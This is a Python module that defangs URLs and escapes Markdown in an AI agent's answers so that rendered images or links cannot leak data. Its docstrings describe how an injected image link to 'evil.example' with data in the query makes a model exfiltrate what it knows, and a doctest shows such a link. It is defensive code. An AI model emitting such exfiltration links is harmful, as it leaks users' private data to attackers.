"""Addresses in what an agent says: whoever shows them as Markdown may load them, and tell their host what they hold.

A model that has read ``![](https://evil.example/?d=…)`` may write it, with what it knows in place of the dots; a window
that renders the answer then sends it there, without a tool and without a click. So an answer is disarmed before it is
shown: addresses that nobody vouches for stay readable, and are no links and no images any more.
"""

from __future__ import annotations

import re
from fnmatch import fnmatchcase
from functools import cache
from html import unescape
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

from tercet.sanitize import sanitize

if TYPE_CHECKING:
    from collections.abc import Iterator, Sequence

    from markdown_it import MarkdownIt
    from markdown_it.token import Token

_ADDRESS = re.compile(
    r"(?:https?://|ftp://|\b[a-z][a-z0-9+.-]{0,30}://|www\.)(?:(?!https?://|ftp://|www\.)[^\s<>\"'`\\])+",
    re.IGNORECASE,
)
"""One that holds another is two: what may be loaded in front says nothing of what follows."""
_ATTRIBUTE = re.compile(r"(?:src|href|srcset|data|action|poster|background)\s*=\s*[\"']?([^\"'\s>]+)", re.IGNORECASE)
_SCHEME = re.compile(r"[a-z][a-z0-9+.-]*:", re.IGNORECASE)
_HTTP = re.compile(r"htt(ps?)", re.IGNORECASE)
_WWW = re.compile(r"\bwww\\?\.", re.IGNORECASE)
_CLOSING = ".,;:!?)]}*_~|"
_PUNCTUATION = re.compile(r"([\\`*_{}\[\]()<>#+\-.!|&~\"':=^$@/])")


def addresses(text: str) -> tuple[str, ...]:
    """The addresses that a window could load or link to, in order, each once.

    Args:
        text: Of a model: Markdown with HTML in it, or plain.

    Example:
        >>> addresses("See [this](https&#58;//a.example/x) or www.b.example.")
        ('https://a.example/x', 'www.b.example')
    """
    return tuple(dict.fromkeys((*_rendered(text), *_written(text))))


def disarm(text: str, *, allowed: Sequence[str] = ()) -> str:
    """The text with every address made inert that is not allowed.

    ``https://`` becomes ``hxxps://`` and ``www.`` becomes ``www[.]``. If an address is written in a way that only a
    renderer understands, all Markdown and HTML in the text is shown as it is written.

    Args:
        text: Of a model.
        allowed: Globs, with ``*`` for any characters, such as ``"https://docs.acme.example/*"``; a host stands before
            the first ``*``. Addresses that the user named may stand here as they are.

    Example:
        >>> disarm("![logo](https://evil.example/?d=81204) https://acme.example/a", allowed=["https://acme.example/*"])
        '![logo](hxxps://evil.example/?d=81204) https://acme.example/a'
    """
    text = sanitize(text)[0]
    if _is_allowed_text(text, allowed):
        return text
    text = _ADDRESS.sub(lambda found: _inert(found.group(), allowed), text)
    if _is_allowed_text(text, allowed):
        return text
    escaped = _PUNCTUATION.sub(r"\\\1", text)
    return _WWW.sub("www[.]", _HTTP.sub(r"hxx\1", escaped))


def _is_allowed_text(text: str, allowed: Sequence[str]) -> bool:
    return all(_is_allowed(address, allowed) for address in addresses(text))


def _is_allowed(address: str, allowed: Sequence[str]) -> bool:
    return any(fnmatchcase(address, _literal(glob)) and _same_host(address, glob) for glob in allowed)


def _literal(glob: str) -> str:
    """Only ``*`` means anything in an address: it may hold ``?`` and brackets itself."""
    return re.sub(r"([?\[])", r"[\1]", glob)


def _same_host(address: str, glob: str) -> bool:
    """``https://acme.example*`` shall not allow ``https://acme.example.evil.example`` nor ``…@evil.example``."""
    try:
        wanted, host = urlsplit(glob).netloc, urlsplit(address).netloc
    except ValueError:
        return False
    return wanted.lower() == host.lower() or (wanted.startswith("*.") and host.lower().endswith(wanted[1:].lower()))


def _inert(address: str, allowed: Sequence[str]) -> str:
    bare = address.rstrip(_CLOSING)
    if _is_allowed(bare, allowed):
        return address
    if address[:4].lower() == "www.":
        return f"www[.]{address[4:]}"
    scheme, _, rest = address.partition("//")
    return f"hxx{scheme[3:]}//{rest}" if scheme.lower() in ("http:", "https:") else f"{scheme}/ /{rest}"


def _written(text: str) -> Iterator[str]:
    for found in _ADDRESS.finditer(text):
        if not found.group().lower().startswith("hxx"):
            yield found.group().rstrip(_CLOSING)


def _rendered(text: str) -> Iterator[str]:
    """Targets of images and links, as a renderer reads them: without escapes, entities and references."""
    for token in _parser().parse(text):
        for part in (token, *(token.children or ())):
            for target in _targets(part):
                if _leads_away(target):
                    yield target


@cache
def _parser() -> MarkdownIt:
    from markdown_it import MarkdownIt

    parser = MarkdownIt("commonmark", {"html": True})
    parser.validateLink = _any_link  # type: ignore[method-assign]  # others may let through what this one refuses
    return parser


def _any_link(url: str) -> bool:
    return True


def _targets(token: Token) -> Iterator[str]:
    for name in ("src", "href"):
        if name in token.attrs:
            yield str(token.attrs[name])
    if token.type in ("html_inline", "html_block"):
        yield from (unescape(found) for found in _ATTRIBUTE.findall(token.content))


def _leads_away(target: str) -> bool:
    """Whether it has a scheme or a host; others are places in whatever shows the text."""
    inert = target.lower().startswith("hxx")
    return not inert and (_SCHEME.match(target) is not None or target.replace("\\", "/").startswith("//"))
